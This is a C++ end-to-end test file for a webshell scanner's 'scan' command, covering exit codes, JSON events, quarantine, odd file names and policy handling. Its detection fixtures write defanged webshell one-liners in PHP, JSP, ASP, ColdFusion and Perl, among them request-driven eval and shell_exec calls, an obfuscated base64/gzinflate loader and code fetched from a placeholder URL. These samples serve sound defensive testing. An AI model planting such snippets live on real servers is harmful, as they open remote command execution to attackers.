// `ardent-agent scan` end to end: the real binary, a fresh install tree per
// test, rules compiled from source written here, web roots in temp dirs.

#include <sys/stat.h>

#include <climits>
#include <cstdlib>

#include <iterator>
#include <map>
#include <memory>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include <Poco/Base64Decoder.h>
#include <Poco/File.h>
#include <gtest/gtest.h>
#include <json/json.h>

#include "E2e.h"

namespace {

using TestSupport::ReadFile;
using TestSupport::TempDir;

const char* const kRules = R"(
rule test_certain_marker : certain extra_php { strings: $a = "CERTAIN_SHELL_MARKER" condition: $a }
rule test_suspicious_marker { strings: $a = "SUSPICIOUS_MARKER" condition: $a }
)";

const std::string kCertain = "<?php exit; /* CERTAIN_SHELL_MARKER */ ?>\n";
const std::string kSuspicious = "<?php exit; /* SUSPICIOUS_MARKER */ ?>\n";
const std::string kClean = "<?php echo 'hello'; ?>\n";

using E2e::Outcome;

// Every line must be one complete JSON object on its own, ended by a line feed.
std::vector<Json::Value> ParseLines(const std::string& text)
{
    Json::CharReaderBuilder builder;
    Json::CharReaderBuilder::strictMode(&builder.settings_);
    std::unique_ptr<Json::CharReader> reader(builder.newCharReader());
    EXPECT_TRUE(text.empty() || text.back() == '\n') << "last line has no line feed";
    std::vector<Json::Value> values;
    std::istringstream lines(text);
    for (std::string line; std::getline(lines, line);) {
        Json::Value value;
        std::string errors;
        EXPECT_TRUE(reader->parse(line.data(), line.data() + line.size(), &value, &errors) && value.isObject())
            << "not one JSON object: " << line << " (" << errors << ")";
        values.push_back(value);
    }
    return values;
}

using TestSupport::ModeOf;

class ScanE2E : public ::testing::Test {
protected:
    ScanE2E()
        : m_install(TestSupport::MakeInstallTree(m_dir)),
          m_rules(TestSupport::WriteRules(m_dir, "rules/test.yar", kRules))
    {
    }

    Outcome Scan(std::vector<std::string> args, const std::string& workDir = "")
    {
        // Kept where these tests look for them (by default a scan keeps them outside the install tree).
        args.insert(args.begin(), {"scan", "--install-dir", m_install, "--upload-dir", m_install + "data/upload"});
        return E2e::Run(args, workDir);
    }

    std::string Upload(const std::string& sha) const { return m_install + "data/upload/" + sha; }

    TempDir m_dir;
    std::string m_install;
    std::string m_rules;
};

}  // namespace

TEST_F(ScanE2E, CertainFileIsAnEventSuspiciousFileIsKeptCleanFileIsNowhereNothingCertainExitsZero)
{
    const std::string shell = m_dir.Write("www/shell.php", kCertain);
    const std::string odd = m_dir.Write("www/sub/odd.php", kSuspicious);
    m_dir.Write("www/index.php", kClean);
    m_dir.Write("www/notes.txt", kCertain);  // not a script suffix: not checked

    const Outcome r = Scan({"--rules", m_rules, m_dir.Join("www")});
    EXPECT_EQ(r.code, 1) << r.err;
    const auto events = ParseLines(r.out);
    ASSERT_EQ(events.size(), 1u) << r.out;
    const Json::Value& e = events[0];
    EXPECT_EQ(e["file_info"][0]["file_path"].asString(), shell);

    // The suspicious file is kept under its digest (with its sidecar);
    // nothing else is. The rule library went into place.
    const std::string sha = TestSupport::Sha256Sum(odd);
    std::string listing;
    TestSupport::RunCommand("ls -A '" + m_install + "data/upload'", &listing);
    EXPECT_EQ(listing, sha + "\n" + sha + ".json\n");
    EXPECT_EQ(ReadFile(m_install + "data/webshell/webshell.dat"), ReadFile(m_rules));
    EXPECT_NE(r.err.find("4 files seen, 3 checked, 2 matched (1 certain, 1 suspicious)"),
              std::string::npos)
        << r.err;
    EXPECT_NE(r.err.find("1 written to standard output"), std::string::npos) << r.err;
    EXPECT_NE(r.err.find("1 kept"), std::string::npos) << r.err;

    // Other rules given later replace the installed library.
    const std::string other = TestSupport::WriteRules(
        m_dir, "other.yar", "rule s : certain { strings: $a = \"SUSPICIOUS_MARKER\" condition: $a }\n");
    const Outcome again = Scan({"-q", "--rules", other, m_dir.Join("www")});
    EXPECT_EQ(again.err, "") << "-q leaves only the events";
    const auto now = ParseLines(again.out);
    ASSERT_EQ(now.size(), 1u) << again.out;
    EXPECT_EQ(now[0]["file_info"][0]["file_path"].asString(), odd);
    EXPECT_EQ(ReadFile(m_install + "data/webshell/webshell.dat"), ReadFile(other));

    // Nothing certain: exit 0, nothing on stdout. A link planted at
    // data/upload is never followed: its target keeps its mode and gets nothing.
    m_dir.Write("calm/a.php", kSuspicious + "// calm\n");
    m_dir.Write("calm/b.php", kClean);
    const std::string elsewhere = m_dir.MkDir("elsewhere", 0755);
    ASSERT_EQ(0, TestSupport::RunCommand("rm -rf '" + m_install + "data/upload' && ln -s '" + elsewhere + "' '" +
                                         m_install + "data/upload'"));
    for (const std::string& dir : {m_dir.Join("calm"), m_dir.MkDir("empty")}) {
        const Outcome calm = Scan({"--rules", m_rules, dir});
        EXPECT_EQ(calm.code, 0) << calm.err;
        EXPECT_EQ(calm.out, "");
        EXPECT_NE(calm.err.find(dir == m_dir.Join("calm") ? "0 certain, 1 suspicious" : "0 files seen"),
                  std::string::npos)
            << calm.err;
    }
    EXPECT_EQ(ModeOf(elsewhere), 0755u);
    std::vector<std::string> planted;
    Poco::File(elsewhere).list(planted);
    EXPECT_TRUE(planted.empty());
}

TEST_F(ScanE2E, RelativePathsAreReportedFromTheRoot)
{
    m_dir.Write("www/site/shell.php", kCertain);
    // The agent sees the working directory as getcwd reports it.
    char* real = ::realpath(m_dir.Path().c_str(), nullptr);
    ASSERT_NE(real, nullptr);
    const std::string shell = std::string(real) + "/www/site/shell.php";
    std::free(real);
    for (const std::string typed : {"./www/", "www", "."}) {
        const Outcome r = Scan({"--rules", m_rules, typed}, m_dir.Path());
        EXPECT_EQ(r.code, 1) << typed << "\n" << r.err;
        const auto events = ParseLines(r.out);
        ASSERT_EQ(events.size(), 1u) << typed << "\n" << r.out;
        EXPECT_EQ(events[0]["file_info"][0]["file_path"].asString(), shell) << typed;
    }
}

// Errors exit 2 with a clear message and nothing on stdout; help is per
// command; --version says which.
TEST_F(ScanE2E, ErrorsHelpAndVersion)
{
    const std::string www = m_dir.MkDir("www");
    m_dir.Write("www/shell.php", kCertain);
    const std::string broken = m_dir.Write("broken.yar", "rule broken { condition: nonsense( }\n");
    const std::string notJson = m_dir.Write("bad.json", "{\"content\": ");
    const std::string incomplete = m_dir.Write(
        "incomplete.json", R"({"feature_name":"detect_webshell","content":{"customize_scan_paths":[]}})");

    struct Case {
        std::vector<std::string> args;  // of `scan` when they start with --rules or --policy
        std::string has;
        int code = 2;
        std::string hasNot = "";
    };
    const std::vector<Case> cases = {
        {{"--rules", m_dir.Join("absent.yar"), www}, "absent.yar"},
        {{"--rules", broken, www}, "cannot be used"},
        {{"--policy", notJson, "--rules", m_rules, www}, "not a JSON object"},
        {{"--policy", incomplete, "--rules", m_rules, www}, "policy refused"},
        {{"--policy", m_dir.Join("absent.json"), www}, "absent.json"},
        {{"--rules", m_rules, m_dir.Join("nowhere")}, "does not exist"},
        {{"--rules", m_rules, "/dev/null"}, "is neither a directory nor a regular file"},
        {{"--rules", m_rules, "--bogus", www}, "unknown option"},
        {{"--rules", m_rules, "--events", m_dir.Join("no/dir/events.jsonl"), www}, "cannot write events to"},
        {{"--rules", m_rules, "--events", "/dev/full", www}, "events could not be written: /dev/full"},
        {{"--version"}, "ardent-agent 0.", 0, "usage"},
        {{"help", "scan"}, "--quiet", 0, "check-policy F"},
        {{"ctl", "--help"}, "scan-now", 0, "--quiet"},
        {{"help"}, "check-policy F", 0},
        {{"help", "nope"}, "no help for unknown command 'nope'"},
    };
    for (const auto& c : cases) {
        const bool scan = c.args[0] == "--rules" || c.args[0] == "--policy";
        const Outcome r = scan ? Scan(c.args) : E2e::Run(c.args);
        EXPECT_EQ(r.code, c.code) << c.has << "\n" << r.err;
        EXPECT_NE((r.out + r.err).find(c.has), std::string::npos) << r.out << r.err;
        if (!c.hasNot.empty()) {
            EXPECT_EQ((r.out + r.err).find(c.hasNot), std::string::npos) << r.out << r.err;
        }
        if (scan) {
            EXPECT_EQ(r.out, "") << c.has;
        }
    }
}

// Two of the names differ only in encoding: the one that is not UTF-8 is
// escaped reversibly and carries its exact bytes. Nothing left out on
// purpose is warned about.
TEST_F(ScanE2E, AwkwardFileNamesEachGiveOneLineOfValidJson)
{
    const std::vector<std::string> names = {
        "with space.php",      "new\nline.php",      "quote\"d.php",   "single'quote.php",
        "back\\slash.php",     "tab\there.php",      "ctrl\x01" "char.php",
        "caf\xc3\xa9\\.php",   "caf\xe9\\.php",      "bad \xff\xfe bytes.php",
    };
    std::set<std::string> expected;
    for (const auto& name : names) {
        expected.insert(m_dir.Write("www/" + name, kCertain));
    }
    const std::string reference = m_dir.Write("reference.txt", kCertain);

    const Outcome r = Scan({"--rules", m_rules, m_dir.Join("www")});
    EXPECT_EQ(r.code, 1) << r.err;
    EXPECT_EQ(E2e::Count(E2e::Log(m_install), "[Warning]"), 0u) << E2e::Log(m_install);
    const auto events = ParseLines(r.out);
    ASSERT_EQ(events.size(), names.size()) << r.out;
    std::set<std::string> reported;  // the exact bytes of each path
    std::string latin1;              // as the event shows it
    for (const auto& e : events) {
        const Json::Value& file = e["file_info"][0];
        EXPECT_EQ(file["file_sha256"].asString(), TestSupport::Sha256Sum(reference));
        if (!file.isMember("file_path_b64")) {
            reported.insert(file["file_path"].asString());
            continue;
        }
        std::istringstream in(file["file_path_b64"].asString());
        Poco::Base64Decoder decoder(in);
        const std::string path{std::istreambuf_iterator<char>(decoder), std::istreambuf_iterator<char>()};
        reported.insert(path);
        latin1 = path == m_dir.Join("www/caf\xe9\\.php") ? file["file_path"].asString() : latin1;
    }
    EXPECT_EQ(reported, expected);
    EXPECT_EQ(latin1, m_dir.Join("www/caf\\xe9\\\\.php"));
}

// The default library, by language: harmless look-alikes that carry each
// technique's marks in comments or after an exit, and ordinary code that
// quotes such marks where no rule of its language should look.
TEST_F(ScanE2E, DefaultLibraryTellsShellsFromOrdinaryCodeAndEventsGoToAFile)
{
    enum Verdict { CERTAIN, SUSPICIOUS, NONE };
    struct Case {
        std::string name;
        std::string text;
        Verdict verdict;
    };
    const std::vector<Case> cases = {
        {"upload/avatar.php", "<?php exit; /* eval($_POST['cmd']); */\n", CERTAIN},
        {"upload/run.php", "<?php exit; /* $c = $_GET['c']; echo shell_exec($c); */\n", CERTAIN},
        {"upload/cb.php", "<?php exit; /* array_map('assert', (array)$_REQUEST['x']); */\n", CERTAIN},
        // certain only through its decoded layer: the packed text is a comment
        // carrying "eval($_POST['cmd']);"
        {"cache/loader.php",
         "<?php exit;\neval(gzinflate(base64_decode('"
         "HY1BCsIwFET3PcUshCq0Zq+rYgsKagrNpojIJ/m1YtJIWpXe3uBm4DGPGSHQtGe1r9Rhh7I6SdRFe5RFic4HUDA8TDndY2bw"
         "g51B0N65yBtMPcNReHKA70CJEFHh3D4GxtiztRn4Q3a5uNWyUZdUO5NeV1tksfXfEe9X9DX/dyzNHMZ4yDCsvWGzTn4="
         "')));\n",
         CERTAIN},
        // techniques without a plain eval($_POST): request spliced into code,
        // code fetched from a URL, names built by an aliased chr(), a packer
        {"upload/splice.php", "<?php exit; /* eval('$x=' . $_POST['x'] . ';'); */\n", CERTAIN},
        {"upload/fetch.php", "<?php exit; /* eval(base64_decode($d = file_get_contents('http://x.invalid/p'))); */\n",
         CERTAIN},
        {"upload/alias.php", "<?php exit; /* $n = $c(101).$c(118).$c(97).$c(108).$c(40).$c(41); eval($n); */\n",
         CERTAIN},
        {"upload/packer.php", "<?php exit; /* $_X=strtr($_X,'123456aouie','aouie123456'); eval($_X); */\n", CERTAIN},
        {"app/cmd.jsp", "<%-- Runtime.getRuntime().exec(request.getParameter(\"c\")) --%>\n", CERTAIN},
        {"legacy/default.asp", "<%\n' execute(request(\"x\"))\n%>\n", CERTAIN},
        {"legacy/admin.aspx", "<%-- eval(Request.Item[\"z\"], \"unsafe\") --%>\n", CERTAIN},
        {"cf/run.cfm", "<!--- <cfexecute name=\"#form.cmd#\" timeout=\"5\"> --->\n", CERTAIN},
        {"cgi-bin/run.pl", "#!/usr/bin/perl\nexit;\n# system(param('cmd'));\n", CERTAIN},
        {"cache/packed.php", "<?php exit; $a = 'gzinflate(base64_decode(';\n", SUSPICIOUS},
        {"legacy/tools.asp", "<%\n' Set s = CreateObject(\"WScript.Shell\")\n%>\n", SUSPICIOUS},
        {"index.php", "<?php echo 'hello'; ?>\n", NONE},
        // a doc comment that quotes request input in backticks
        {"wp-includes/user.php",
         "<?php\n/**\n * Reads `$_POST['user_id']` and `$_GET['x']` when set.\n */\nfunction f() { return 1; }\n", NONE},
        // a database call, not code evaluation
        {"legacy/list.asp", "<% Set rs = conn.Execute(\"select * from t where id=\" & Request(\"id\")) %>\n", NONE},
    };
    std::map<std::string, Verdict> expected;
    for (const auto& c : cases) {
        expected[m_dir.Write("www/" + c.name, c.text)] = c.verdict;
    }
    const std::string sink = m_dir.Join("out/events.jsonl");
    m_dir.MkDir("out");

    const Outcome r = Scan({"--events", sink, m_dir.Join("www")});
    EXPECT_EQ(r.code, 1) << r.err;
    EXPECT_EQ(r.out, "");
    EXPECT_NE(r.err.find(sink), std::string::npos) << r.err;
    EXPECT_EQ(ReadFile(m_install + "data/webshell/webshell.dat"),
              ReadFile(m_install + "share/rules/webshell.yar"));
    std::set<std::string> reported;
    for (const auto& e : ParseLines(ReadFile(sink))) {
        reported.insert(e["file_info"][0]["file_path"].asString());
    }
    for (const auto& [path, verdict] : expected) {
        const bool kept = TestSupport::FileExists(Upload(TestSupport::Sha256Sum(path)));
        EXPECT_EQ(reported.count(path) == 1, verdict == CERTAIN) << path;
        EXPECT_EQ(kept, verdict == SUSPICIOUS) << path;
    }
}

// Every rule of the shipped library says what it finds and how sure it is
// (that it compiles with the agent's variables, the scan above shows).
TEST(DefaultRuleLibrary, EveryRuleHasDescriptionAndScore)
{
    std::istringstream source(ReadFile(TestSupport::SourceDir() + "/examples/rules/webshell.yar"));
    std::vector<std::pair<std::string, std::string>> rules;  // name, text up to the next rule
    const std::regex head(R"(^(?:private |global )*rule (\w+))");
    for (std::string line; std::getline(source, line);) {
        std::smatch m;
        if (std::regex_search(line, m, head)) {
            rules.emplace_back(m[1], "");
        } else if (!rules.empty()) {
            rules.back().second += line + "\n";
        }
    }
    EXPECT_GT(rules.size(), 20u);
    const std::regex description(R"(\bdescription = "[^"]+")");
    const std::regex score(R"(\bscore = (\d+)\b)");
    for (const auto& [name, text] : rules) {
        std::smatch m;
        EXPECT_TRUE(std::regex_search(text, description)) << name;
        EXPECT_TRUE(std::regex_search(text, m, score) && std::stoi(m[1]) <= 100) << name;
    }
}

// The paths given replace the policy's scan paths, whatever its schedule
// says (the threaded scans check one pass over the policy's own paths).
TEST_F(ScanE2E, PathsReplaceThePolicysScanPathsAndItsLibraryIsFetched)
{
    m_dir.Write("other/f.txt", kCertain);
    const std::string www = m_dir.MkDir("www");
    m_dir.Write("www/a.txt", kCertain);
    m_dir.Write("www/b.php", kCertain);
    Json::Value policy = E2e::EverySecond(TestSupport::WebshellPolicy({m_dir.Join("other")}, m_rules));
    policy["content"]["file_type"] = "txt";
    policy["content"]["lib_url"] = "file:///nonexistent";
    policy["content"]["lib_hash"] = "0";
    const std::string policyFile = E2e::PolicyFile(m_dir, "policy.json", policy);

    Outcome r = Scan({"--policy", policyFile, "--rules", m_rules, www});
    EXPECT_EQ(r.code, 1) << r.err;
    const auto events = ParseLines(r.out);
    ASSERT_EQ(events.size(), 1u) << r.out;
    EXPECT_EQ(events[0]["file_info"][0]["file_path"].asString(), www + "/a.txt");

    // Without --rules the policy's own library is used, and here it cannot
    // be fetched: the download failure is the error.
    r = Scan({"--policy", policyFile, www});
    EXPECT_EQ(r.code, 2) << r.err;
    EXPECT_NE(r.err.find("file:///nonexistent"), std::string::npos) << r.err;
}
